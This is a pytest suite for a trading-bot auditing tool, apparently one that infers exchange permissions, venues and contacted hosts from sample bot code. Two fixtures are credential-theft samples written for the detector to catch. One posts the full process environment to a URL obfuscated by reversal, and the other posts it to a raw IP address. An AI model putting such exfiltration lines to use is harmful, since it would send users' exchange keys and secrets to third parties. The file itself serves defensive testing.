"""``botlint audit``'s capability analysis on the shapes real bots write: ccxt clients kept in
dicts, handed to helper modules or looped over; native-SDK API objects the client tracker does not
follow; REST signing helpers given the endpoint by name; exchange accounts in config files; DEX
APIs named by their hosts.  Each positive comes with a negative of the same shape."""
from __future__ import annotations

import os

import pytest

from botlint.audit.collect import collect
from botlint.audit.model import build


def audit(root):
    result, _notes, missing = collect(str(root), jobs=1, use_cache=False)
    assert not missing and not result.errors
    return build(str(root), result)


def project(tmp_path, files):
    for rel, text in files.items():
        path = os.path.join(str(tmp_path), rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(text)
    return tmp_path


def perms(a):
    return {p for p, v in a.permissions.items() if v}


# -- ccxt clients the tracker cannot follow to the call ------------------------------------------

CLIENT_SHAPES = {
    "dict_comprehension": '''
import ccxt

def run(cfg):
    ex = {n: getattr(ccxt, n)({**c}) for n, c in cfg["exchanges"].items()}
    for n, e in ex.items():
        print(e.fetch_balance())
    ex["a"].create_market_buy_order("BTC/USDT", 1)
''',
    "factory_dict_param": '''
import ccxt.async_support as ccxt

def build(keys):
    return {"okx": ccxt.okx(keys["okx"]), "gate": ccxt.gate(keys["gate"])}

async def step(venues, side):
    await venues[side].create_order("ETH/USDT", "limit", "buy", 1, 2)
    return await venues[side].fetch_open_orders("ETH/USDT")
''',
    "class_attribute_async": '''
import ccxt.pro as ccxtpro

class Trader:
    ex = None
    venues = {}

    @classmethod
    def attach(cls, name, cfg):
        cls.venues[name] = getattr(ccxtpro, name)(cfg)

    async def tick(self, name):
        bal = await self.venues[name].fetchBalance()
        await self.venues[name].createLimitBuyOrder("BTC/USDT", 1, bal["free"]["USDT"])
''',
    "getattr_method": '''
import ccxt

clients = [ccxt.bybit({"apiKey": "k", "secret": "s"})]

def place(side):
    for c in clients:
        getattr(c, "create_limit_%s_order" % side)
        return getattr(c, "createOrder")("BTC/USDT", "market", side, 1)
''',
}


@pytest.mark.parametrize("shape", sorted(CLIENT_SHAPES))
def test_ccxt_calls_on_untraced_receivers_count_in_a_ccxt_project(tmp_path, shape):
    a = audit(project(tmp_path, {"bot.py": CLIENT_SHAPES[shape]}))
    assert perms(a) == {"read", "trade"}, shape


def test_helper_module_without_ccxt_import_counts_when_the_project_uses_ccxt(tmp_path):
    a = audit(project(tmp_path, {
        "arb.py": "import ccxt\n\ndef make():\n    return {'kraken': ccxt.kraken({})}\n",
        "helpers/orders.py": "async def go(exchanges, n):\n"
                             "    await exchanges[n].create_order('X/Y', 'market', 'buy', 1)\n",
    }))
    assert perms(a) == {"read", "trade"}
    assert any(e.path.endswith("orders.py") for e in a.evidence["trade"])


def test_ccxt_method_names_without_ccxt_in_the_project_do_not_count(tmp_path):
    # a paper-trading simulator with ccxt-like method names, and no ccxt anywhere
    a = audit(project(tmp_path, {"sim.py": '''
class Book:
    def create_order(self, *a):
        return a

def run(book, venues):
    book.create_order("BTC/USDT", "limit", "buy", 1, 2)
    venues["x"].fetch_balance()
'''}))
    assert perms(a) == set()


def test_ccxt_project_untraced_calls_skip_self_and_tests(tmp_path):
    a = audit(project(tmp_path, {
        "bot.py": '''
import ccxt

class Broker:
    def create_order(self, *a):
        return self.create_order_impl(*a)

    def place(self):
        return self.create_order("BTC/USDT")
''',
        "tests/test_bot.py": "def test_it(ex):\n    ex.create_order('BTC/USDT', 'market', 'buy', 1)\n",
    }))
    assert perms(a) == set()


# -- native-SDK API objects --------------------------------------------------------------------

def test_sdk_api_objects_of_an_sdk_module_count(tmp_path):
    a = audit(project(tmp_path, {"grid.py": '''
import os
import okx.Trade as Trade
from okx import Account

trade = Trade.TradeAPI(os.environ["K"], os.environ["S"], os.environ["P"], False, "0")
acct = Account.AccountAPI(os.environ["K"], os.environ["S"], os.environ["P"], False, "0")

def go():
    acct.get_account_balance(ccy="USDT")
    trade.place_order(instId="BTC-USDT", tdMode="cash", side="buy", ordType="market", sz="1")
'''}))
    assert perms(a) == {"read", "trade"}
    assert {e.code for e in a.evidence["trade"]} == {"trade.place_order()"}


def test_sdk_object_read_only_and_non_sdk_objects(tmp_path):
    a = audit(project(tmp_path, {"viewer.py": '''
import okx.Account as Account
from mylib import Orders

acct = Account.AccountAPI("", "", "", False, "1")
orders = Orders()

def show():
    print(acct.get_positions())
    orders.place_order("anything")  # the project's own class: not an exchange call
'''}))
    assert perms(a) == {"read"}


# -- REST signing helpers given the endpoint by name -------------------------------------------

REST_HELPER = '''
import hashlib
import hmac

import requests


class Client:
    def {helper}(self, {verb_param}name, **params):
        sig = hmac.new(b"k", name.encode(), hashlib.sha512).hexdigest()
        return requests.post("https://api.example-venue.io/0/private/" + name, data=params,
                             headers={{"API-Sign": sig}})

    def balance(self):
        return self.{helper}({verb}"Balance")

    def buy(self, pair, vol):
        return self.{helper}({verb}"{order}", pair=pair, volume=vol)
'''


@pytest.mark.parametrize("helper,verb,order", [
    ("private", "", "AddOrder"),
    ("_signed_request", '"POST", ', "order"),
    ("_request", '"POST", ', "newOrder"),
    ("query_private", "", "CancelAll"),
])
def test_rest_signing_helper_given_the_endpoint_by_name(tmp_path, helper, verb, order):
    src = REST_HELPER.format(helper=helper, verb=verb, verb_param="verb, " if verb else "", order=order)
    a = audit(project(tmp_path, {"client.py": src}))
    assert perms(a) == {"read", "trade"}, (helper, order)


def test_endpoint_names_need_a_signing_helper(tmp_path):
    # a public-data helper and a generic request helper in a module that does not sign
    a = audit(project(tmp_path, {"data.py": '''
import requests

def public(name, **params):
    return requests.get("https://api.example-venue.io/0/public/" + name, params=params).json()

def _request(name):
    return requests.get("https://api.example-venue.io/" + name).json()

public("Ticker", pair="XBTUSD")
public("OpenOrders")
_request("AddOrder")
'''}))
    assert perms(a) == set()


# -- exchange accounts in config files --------------------------------------------------------

@pytest.mark.parametrize("name,text,want", [
    ("config.json", '{"exchanges": {"binance": {"apiKey": "", "secret": ""}, "bybit": {}}, "n": 1}',
     {"binance", "bybit"}),
    ("keys.json", '{"accounts": {"main": {"kucoin": {"api_key": "x"}}}}', {"kucoin"}),
    ("accounts.yaml", "wallets: 3\nexchanges:\n  okx:\n    key_env: OKX_KEY\n  kraken:\n    key_env: KRAKEN_KEY\n",
     {"okx", "kraken"}),
    ("settings.yml", "gate:\n  api_key: ${GATE_KEY}\n  api_secret: ${GATE_SECRET}\nsymbol: BTC_USDT\n", {"gate"}),
    ("bot.toml", "[exchanges.bitget]\nfee = 0.1\n\n[kraken]\napi_key = \"\"\n", {"bitget", "kraken"}),
])
def test_config_exchange_accounts(tmp_path, name, text, want):
    a = audit(project(tmp_path, {name: text}))
    assert set(a.exchanges) == want


@pytest.mark.parametrize("name,text", [
    ("config.json", '{"prices": {"binance": 1.0, "kraken": 2.0}, "binance": "spot"}'),
    ("pairs.yaml", "binance:\n  - BTC/USDT\n  - ETH/USDT\nsymbols:\n  kraken: XBTUSD\n"),
    ("fees.toml", "[binance]\nmaker = 0.1\ntaker = 0.1\n"),
])
def test_config_exchange_names_that_are_no_accounts(tmp_path, name, text):
    a = audit(project(tmp_path, {name: text}))
    assert a.exchanges == []


# -- DEX APIs by host ---------------------------------------------------------------------------

def test_dex_api_host_names_the_dex(tmp_path):
    a = audit(project(tmp_path, {"swap.py": '''
import requests

QUOTE = "https://quote-api.jup.ag/v6/quote"

def quote(mint):
    return requests.get(QUOTE, params={"outputMint": mint}).json()
''', "one.py": 'import requests\nrequests.get("https://api.1inch.dev/swap/v6.0/1/quote")\n'}))
    assert {"jupiter", "1inch"} <= set(a.exchanges)
    assert {h.host: h.kind for h in a.hosts}["quote-api.jup.ag"] == "exchange"  # where the bot trades


def test_non_dex_hosts_name_no_exchange(tmp_path):
    a = audit(project(tmp_path, {"p.py": 'import requests\nrequests.get("https://api.coingecko.com/api/v3/ping")\n'}))
    assert a.exchanges == []


# -- URLs assembled from literal pieces --------------------------------------------------------

def test_hosts_of_urls_written_backwards_or_in_pieces(tmp_path):
    a = audit(project(tmp_path, {"sync.py": '''import os
import requests

_U = "tcelloc/ten.yrtemelet-tob-ofni//:sptth"[::-1]
_V = "ht" + "tps://" + "paste-drop.example-cdn.org/up"

def sync():
    requests.post(_U, json=dict(os.environ), timeout=5)
    requests.post(_V, data="x")
    print("abc"[::-1], "ETH" + "/USDT")
'''}))
    got = {h.host for h in a.hosts}
    assert {"info-bot-telemetry.net", "paste-drop.example-cdn.org"} <= got, got
    assert "cba" not in got and not any("usdt" in h for h in got)


def test_signing_helper_given_a_fund_endpoint_by_name_and_an_untracked_sdk_venue(tmp_path):
    a = audit(project(tmp_path, {"bot.py": '''import os
import krakenex

k = krakenex.API(os.environ["KRAKEN_KEY"], os.environ["KRAKEN_SECRET"])
print(k.query_private("Balance"), k.query_private("WithdrawStatus", {"asset": "XBT"}))
k.query_private("AddOrder", {"pair": "XBTUSD", "type": "buy", "ordertype": "market", "volume": "0.001"})
k.query_private("Withdraw", {"asset": "XBT", "key": os.environ["WITHDRAW_KEY_NAME"], "amount": "0.1"})
'''}))
    assert perms(a) == {"read", "trade", "withdraw"}
    assert list(a.exchanges) == ["kraken"]
    b = audit(project(tmp_path / "b", {"bot.py": '''import os
import krakenex

k = krakenex.API(os.environ["KRAKEN_KEY"], os.environ["KRAKEN_SECRET"])
print(k.query_private("Balance"), k.query_private("WithdrawStatus", {"asset": "XBT"}))
k.query_private("WalletTransfer", {"asset": "XBT", "from": "Spot Wallet", "to": "Futures Wallet", "amount": "1"})
'''}))
    assert perms(b) == {"read", "transfer"}


def test_ccxt_classes_fetched_by_name_count_when_a_client_is_made(tmp_path):
    a = audit(project(tmp_path, {"bot.py": '''import os
import ccxt

for name in ("okx", "binance"):
    cls = getattr(ccxt, name)
    cls.sign = lambda self, *a, **k: None

ex_class = getattr(ccxt, os.environ.get("EXCHANGE", "kraken"))
spot = getattr(ccxt, "bybit")({"apiKey": os.environ["K"], "secret": os.environ["S"]})
for eid in ["gate", "kucoin"]:
    client = getattr(ccxt, eid)()
'''}))
    assert set(a.exchanges) == {"bybit", "gate", "kucoin"}, a.exchanges


def test_credentials_harvested_and_sent_away_are_exposed(tmp_path):
    a = audit(project(tmp_path, {"bot/telemetry.py": '''import json, os
import requests

def report():
    requests.post("http://45.77.12.9:8080/t", data=json.dumps(dict(os.environ)), timeout=3)
'''}))
    assert a.malicious and a.exposed
    assert any(f.code == "BOT504" for f in a.findings)


def test_sdk_clients_from_a_tuple_factory_and_passed_as_parameters(tmp_path):
    a = audit(project(tmp_path, {"dca.py": '''import os
import okx.Account as Account
import okx.Trade as Trade

def clients():
    key, secret, pw = os.environ["OKX_KEY"], os.environ["OKX_SECRET"], os.environ["OKX_PASS"]
    return Account.AccountAPI(key, secret, pw, False, "1"), Trade.TradeAPI(key, secret, pw, False, "1")

def main():
    account, trade = clients()
    print(account.get_account_balance(ccy="USDT"))
'''}))
    assert perms(a) == {"read"}
    b = audit(project(tmp_path / "b", {"bot.py": '''import os
from kucoin.client import Market, Trade

def build():
    return Market(), Trade(os.environ["KC_KEY"], os.environ["KC_SECRET"], os.environ["KC_PASS"])

def run(market, trade):
    print(market.get_ticker("BTC-USDT"), trade.get_orders_history())
    trade.create_market_order("BTC-USDT", "buy", funds="10")

run(*build())
'''}))
    assert perms(b) == {"read", "trade"}


def test_a_rest_query_about_transfers_or_withdrawals_is_a_read(tmp_path):
    a = audit(project(tmp_path, {"rest.py": '''import hashlib, hmac, os, time
import requests
KEY, SECRET = os.environ["BYBIT_KEY"], os.environ["BYBIT_SECRET"]

def signed_get(path, **params):
    ts = str(int(time.time() * 1000))
    sig = hmac.new(SECRET.encode(), ts.encode(), hashlib.sha256).hexdigest()
    headers = {"X-BAPI-API-KEY": KEY, "X-BAPI-SIGN": sig, "X-BAPI-TIMESTAMP": ts}
    return requests.get("https://api.bybit.com" + path, params=params, headers=headers).json()

signed_get("/v5/asset/transfer/query-account-coins-balance", accountType="FUND", coin="USDT")
'''}))
    assert perms(a) == {"read"}


def test_the_host_of_a_url_template(tmp_path):
    a = audit(project(tmp_path, {"notify.py": '''import requests

class TelegramNotifier:
    API = "https://api.telegram.org/bot{token}/sendMessage"
    OTHER = "https://{host}/api"

    def __init__(self, token, chat):
        self.token, self.chat = token, chat

    def send(self, text):
        requests.post(self.API.format(token=self.token), json={"chat_id": self.chat, "text": text})
'''}))
    assert {h.host for h in a.hosts} == {"api.telegram.org"}


def test_hosts_named_without_a_scheme_in_config_settings(tmp_path):
    a = audit(project(tmp_path, {"track.py": "import json\ncfg = json.load(open('cbtrack.json'))\n",
                                 "cbtrack.json": '{\n  "coinbase_base_url": "api.coinbase.com",\n'
                                                 '  "db_host": "localhost",\n  "smtp_server": "smtp.gmail.com",\n'
                                                 '  "report_file": "daily.csv"\n}\n'}))
    assert {h.host for h in a.hosts} == {"api.coinbase.com", "smtp.gmail.com"}
